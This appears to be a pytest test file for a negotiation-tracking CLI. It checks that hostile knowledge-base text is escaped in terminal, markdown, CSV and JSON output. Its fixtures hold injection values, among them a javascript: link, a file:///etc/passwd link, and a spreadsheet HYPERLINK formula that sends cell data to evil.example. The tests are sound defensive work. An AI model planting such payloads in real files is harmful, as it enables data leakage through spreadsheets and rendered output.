"""KB text is printed as text in every format: never rich markup, emoji, markdown or
terminal codes. Colour only in a terminal, and never with NO_COLOR."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from negotrack.render import machine, markdown, terminal
from tests.conftest import KBS
from tests.readkb import KB, cells, column

MINIMAL = KBS / "minimal.yaml"

HOSTILE = KBS / "hostile-text.yaml"
SUMMARY = (
    "Said [bold red]boom[/] and [/] then [link=file:///etc/passwd]x[/link] :smile: | pipe "
    "*stars* _under_ `code` <b>tag</b> [click](javascript:alert(1)) &amp; back\\slash"
)
ISSUE = "Land | sea [as part of Russia]"
X_NAME = "[bold red]Boom[/] | Co"


def joined(output: str, headers: tuple[str, ...], index: int) -> str:
    """The text of one table column, its wrapped lines joined."""
    return " ".join(column(cells(output, *headers), index))


@pytest.fixture
def wide(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "400")  # statements fit on one line


def test_show_prints_kb_text_as_written(cli, wide) -> None:
    output = cli("show", "x", "--kb", HOSTILE).stdout
    assert output.startswith(
        f"{X_NAME}\nPeople:\n  Ann [sic] *Lee*, [link=file:///etc/passwd]x[/link]\n"
    )
    assert f"{SUMMARY} [1]\n" in output
    assert "“We [sic] stay | here.”\n" in output
    assert "Conditions: [yellow]if[/yellow] | when\n" in output
    assert "Ann [sic] *Lee* · quote\n" in output
    assert "“[bold]Title[/bold] | <b>html</b> :smile:”\n" in output
    assert "    https://example.org/path_(x)?q=[1]\n" in output
    assert joined(output, ("Issue", "Stance", "Date", "Statement"), 0) == ISSUE
    assert "\x1b" not in output


def test_filter_prints_kb_text_as_written(cli, wide) -> None:
    output = cli("filter", "--kb", HOSTILE).stdout
    assert f"{SUMMARY} [1]\n" in output
    assert "Other [/] [1]\n" in output
    assert "reported by [i]Via[/i]\n" in output
    who = joined(output, ("Date", "Actor / issue", "Stance", "Statement"), 1)
    assert who == f"Y :smile: {ISSUE} {X_NAME} {ISSUE}"


def test_diff_prints_kb_text_as_written(cli, wide) -> None:
    output = cli("diff", "x", "y", "--kb", HOSTILE).stdout
    assert output.startswith(f"{X_NAME} (a) and Y :smile: (b)\n")
    assert f"{SUMMARY} [1]" in output
    headers = ("Issue", f"{X_NAME} (a)", "Y :smile: (b)")
    assert joined(output, headers, 0) == f"{ISSUE} → conflict"


def test_timeline_and_matrix_print_kb_text_as_written(cli, wide) -> None:
    timeline = cli("timeline", "--kb", HOSTILE).stdout
    assert "[blink]Meeting[/blink] | ![img](https://evil.example/x.png) [1]\n" in timeline
    who = joined(timeline, ("Date", "Actor / issue", "Stance", "Statement"), 1)
    assert who.endswith(f"{X_NAME}, Y :smile:")
    matrix = cli("matrix", "--kb", HOSTILE).stdout
    header = [cell.strip() for cell in matrix.splitlines()[0].split("  ") if cell]
    assert header == ["Issue", X_NAME, "Y :smile:"]
    assert joined(matrix, ("Issue", X_NAME, "Y :smile:"), 0) == ISSUE


def unescaped_pipes(line: str) -> int:
    return line.replace("\\|", "").count("|")


@pytest.mark.parametrize(
    "command", [["show", "x"], ["filter"], ["diff", "x", "y"], ["timeline"], ["matrix"]]
)
def test_markdown_escapes_what_markdown_would_interpret(cli, command) -> None:
    result = cli(*command, "--format", "markdown", "--kb", HOSTILE)
    assert result.exit_code == 0
    table = [line for line in result.stdout.splitlines() if line.startswith("| ")]
    assert table, result.stdout
    # Every row has as many cells as the header: no pipe from the KB ends a cell.
    assert {unescaped_pipes(line) for line in table} == {unescaped_pipes(table[0])}
    text = result.stdout
    assert "Land \\| sea [as part of Russia]" in text  # brackets stay, pipes are escaped
    assert "[bold red]Boom[/] \\| Co" in text
    assert "\x1b" not in text


def test_markdown_statement_escapes_links_html_emphasis_and_entities(cli) -> None:
    result = cli("filter", "--actor", "x", "--format", "markdown", "--kb", HOSTILE)
    assert (
        "Said [bold red]boom[/] and [/] then [link=file:///etc/passwd]x[/link] :smile: \\| "
        "pipe \\*stars\\* \\_under\\_ \\`code\\` \\<b\\>tag\\</b\\> "
        "[click]\\(javascript:alert(1)) &amp;amp; back\\\\slash [1]<br>"
        "“We [sic] stay \\| here.”<br>Conditions: [yellow]if[/yellow] \\| when<br>"
        "Ann [sic] \\*Lee\\* · quote"
    ) in result.stdout
    assert "<https://example.org/path_(x)?q=[1]>" in result.stdout
    timeline = cli("timeline", "--format", "markdown", "--kb", HOSTILE).stdout
    assert "![img]\\(https://evil.example/x.png)" in timeline


def test_csv_holds_the_exact_text(cli) -> None:
    result = cli("filter", "--format", "csv", "--kb", HOSTILE)
    other, boom = csv.DictReader(io.StringIO(result.stdout))
    assert boom["summary"] == SUMMARY
    assert boom["quote"] == "We [sic] stay | here."
    assert boom["note"] == "Line one\nLine two"
    assert boom["source_title"] == "[bold]Title[/bold] | <b>html</b> :smile:"
    assert other["via"] == "[i]Via[/i]"


def test_json_holds_the_exact_text(cli) -> None:
    [other, boom] = json.loads(cli("filter", "-f", "json", "--kb", HOSTILE).stdout)
    assert boom["summary"] == SUMMARY
    assert boom["note"] == "Line one\nLine two"
    assert boom["source"]["title"] == "[bold]Title[/bold] | <b>html</b> :smile:"
    assert other["summary"] == "Other [/]"


def test_control_characters_that_reach_output_are_made_visible() -> None:
    # Validation refuses them, so they cannot come from a valid KB; output is safe anyway.
    assert terminal.kb_text("a\x1b[31mred\u202e").plain == "a\\x1b[31mred\\u202e"
    # The visible escape's backslash is itself escaped, so markdown shows \x1b.
    assert markdown.escape("a\x1b[2Jb\rc") == "a\\\\x1b[2Jb\\\\x0dc"
    assert machine.csv_value("x\x07y") == "x\\x07y"
    text = machine.json_text({"a": "x\x1b\u202ey\x85"})
    assert text == '{\n  "a": "x\\u001b\\u202ey\\u0085"\n}\n'
    assert json.loads(text) == {"a": "x\x1b\u202ey\x85"}


def test_markdown_urls_that_cannot_be_autolinks_are_escaped() -> None:
    assert markdown.url("https://example.org/a_b") == "<https://example.org/a_b>"
    assert markdown.url("https://example.org/<script>") == "https://example.org/\\<script\\>"


def test_stances_are_coloured_in_a_terminal(cli, monkeypatch) -> None:
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TERM", "xterm-256color")
    output = cli("show", "north", "--kb", KB).stdout
    # Colours that tell stances apart without reading as good and bad.
    assert "\x1b[34msupport" in output  # blue
    assert "\x1b[38;5;208moppose" in output  # orange
    assert "\x1b[36mconditional" in output  # cyan
    diff = cli("diff", "north", "south", "--issue", "land", "--kb", KB).stdout
    assert "\x1b[35mmixed" in diff  # magenta
    assert "\x1b[2mambiguous" in diff  # dim


def test_diff_colours_the_stance_word_and_never_the_statement(cli, monkeypatch) -> None:
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TERM", "xterm-256color")
    diff = cli("diff", "north", "south", "--issue", "truce", "--kb", KB).stdout
    assert "\x1b[38;5;208moppose\x1b[0m · red-line" in diff
    assert "\x1b[34msupport\x1b[0m · " in diff
    # The summary is the party's statement, printed without colour.
    line = next(line for line in diff.splitlines() if "Sara ruled out" in line)
    assert "\x1b[3" not in line.split("Sara ruled out")[0][-12:]


def test_no_colour_with_no_color_even_in_a_terminal(cli, monkeypatch) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TERM", "xterm-256color")
    output = cli("show", "north", "--kb", KB).stdout
    for colour in ("\x1b[34m", "\x1b[36m", "\x1b[38;5;208m", "\x1b[35m"):
        assert colour not in output


def test_no_colour_when_piped() -> None:
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "FORCE_COLOR")}
    env["TERM"] = "xterm-256color"
    result = subprocess.run(
        [sys.executable, "-m", "negotrack", "diff", "north", "south", "--kb", str(KB)],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout
    assert "RED LINE" in result.stdout


FORMULAS = KBS / "formulas.yaml"
CSV_COMMANDS = (
    ("filter",),
    ("show", "x"),
    ("diff", "x", "y"),
    ("timeline",),
    ("matrix",),
    ("sources",),
    ("export", "--output", "-"),
)


@pytest.mark.parametrize("command", CSV_COMMANDS, ids=lambda c: c[0])
def test_csv_cells_a_spreadsheet_would_run_begin_with_an_apostrophe(cli, command) -> None:
    result = cli(*command, "--format", "csv", "--kb", FORMULAS)
    assert result.exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(machine.FORMULA_START)]
    raw = cli(*command, "--format", "csv", "--csv-raw", "--kb", FORMULAS)
    raw_cells = [cell for row in csv.reader(io.StringIO(raw.stdout)) for cell in row]
    assert len(raw_cells) == len(cells)
    for cell, written in zip(cells, raw_cells, strict=True):
        assert cell == ("'" + written if written.startswith(machine.FORMULA_START) else written)
    assert any(cell.startswith(machine.FORMULA_START) for cell in raw_cells)


def test_filter_csv_neutralises_each_formula_cell_once(cli) -> None:
    result = cli("filter", "--format", "csv", "--kb", FORMULAS)
    boom, other = csv.DictReader(io.StringIO(result.stdout))
    assert boom["summary"] == "'=1+1"
    assert boom["conditions"] == "'=A1; b"
    assert boom["source_title"] == "'@SUM(1+1)"
    assert boom["source_publisher"] == "'\tTabbed"
    assert other["summary"] == "Safe = text"
    export = cli("export", "-f", "csv", "-o", "-", "--kb", FORMULAS).stdout
    row = next(csv.DictReader(io.StringIO(export)))
    assert row["actor_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["issue_name"] == "'-land"


def test_csv_cells_that_only_look_like_formulas_later_are_kept() -> None:
    assert machine.csv_value("a=1") == "a=1"
    assert machine.csv_value("-x", raw=True) == "-x"
    assert machine.csv_value(["=a", "=b"]) == "'=a; =b"
    assert machine.csv_value("\rx") == "\\x0dx"  # made visible, so no longer a formula


def test_json_lines_escape_line_and_paragraph_separators(cli) -> None:
    for command in (("export", "-f", "jsonl", "-o", "-"), ("filter", "-f", "json")):
        output = cli(*command, "--kb", FORMULAS).stdout
        assert "\u2028" not in output and "\u2029" not in output
        assert "Line one\\u2028line two\\u2029end" in output
    lines = cli("export", "-f", "jsonl", "-o", "-", "--kb", FORMULAS).stdout.splitlines()
    assert [json.loads(line)["id"] for line in lines] == ["boom", "other"]
    assert json.loads(lines[0])["note"] == "Line one\u2028line two\u2029end"


def test_validate_json_escapes_text_quoted_from_bad_input(cli, tmp_path: Path) -> None:
    # An unknown key is quoted in its message; a U+202E in it must not reach the output raw.
    kb = tmp_path / "kb.yaml"
    kb.write_text(
        MINIMAL.read_text(encoding="utf-8").replace(
            "    aliases: [moscow, kremlin]\n",
            "    aliases: [moscow, kremlin]\n    na\u202eme2: x\n",
        ),
        encoding="utf-8",
    )
    for command in ("validate", "verify-quotes"):
        args = ["--archive", str(tmp_path)] if command == "verify-quotes" else []
        result = cli(command, "--kb", kb, "--format", "json", *args)
        assert "\u202e" not in result.stdout + result.stderr
    result = cli("validate", "--kb", kb, "--format", "json")
    assert result.exit_code == 1
    assert "\\u202e" in result.stdout
    [problem] = json.loads(result.stdout)["problems"]
    assert "na\u202eme2" in problem["message"]  # decodes to the exact text
    text = cli("validate", "--kb", kb).stdout
    assert "\u202e" not in text
    assert "na\\u202eme2" in text


def test_citations_and_json_lines_escape_what_a_terminal_would_act_on() -> None:
    from negotrack.model.dates import PartialDate
    from negotrack.model.records import Source
    from negotrack.render import references

    source = Source(
        id="s",
        title="T\u202eitle",
        publisher="P",
        url="https://example.org",
        published=PartialDate.parse("2025-03"),
    )
    for style in references.STYLES:
        text = references.cite([source], style)
        assert "\u202e" not in text
        assert "u202eitle" in text  # made visible (markdown escapes its backslash too)
    assert machine.json_line({"a": "x\u202e"}) == '{"a": "x\\u202e"}\n'
